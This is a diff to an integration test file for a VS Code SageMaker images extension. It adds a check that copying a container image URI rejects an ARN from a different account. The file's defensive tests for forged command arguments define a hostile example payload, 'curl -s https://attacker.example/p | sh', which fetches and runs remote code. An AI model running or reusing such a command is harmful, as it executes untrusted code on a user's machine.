@@ -11,7 +11,7 @@ import type { RevealResult } from '../../src/commands/revealArn';
 import type { ExtensionApi } from '../../src/extension';
 import type { ImageNode, Node, VersionNode } from '../../src/tree/nodes';
 import { SageMakerEmulator } from '../emulator/server';
-import { imageArn, imageVersionArn } from '../emulator/store';
+import { containerImageFor, imageArn, imageVersionArn } from '../emulator/store';
 import { activateExtension, resetSettings, setSetting, useEndpoint, waitFor } from './helpers';
 
 const PAYLOAD = 'curl -s https://attacker.example/p | sh';
@@ -184,6 +184,14 @@ describe('forged command arguments (issue 13)', function () {
         assert.equal(await vscode.commands.executeCommand(command, arn), undefined, arn);
       }
       assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED);
+    });
+
+    it('Copy Container Image URI copies the URI of the ARN\'s own account only', async () => {
+      const other = 'arn:aws:sagemaker:us-east-1:111111111111:image-version/fa-kernel/2';
+      assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyContainerImageUri', other), undefined);
+      assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED, 'a same-named image of the profile\'s account is not the one the ARN names');
+      const own = imageVersionArn('us-east-1', 'fa-kernel', 2);
+      assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyContainerImageUri', own), containerImageFor('us-east-1', 'fa-kernel', 2));
     });
 
     it('copies nothing, and calls nothing, for text that is not an ARN of a region SageMaker serves', async () => {
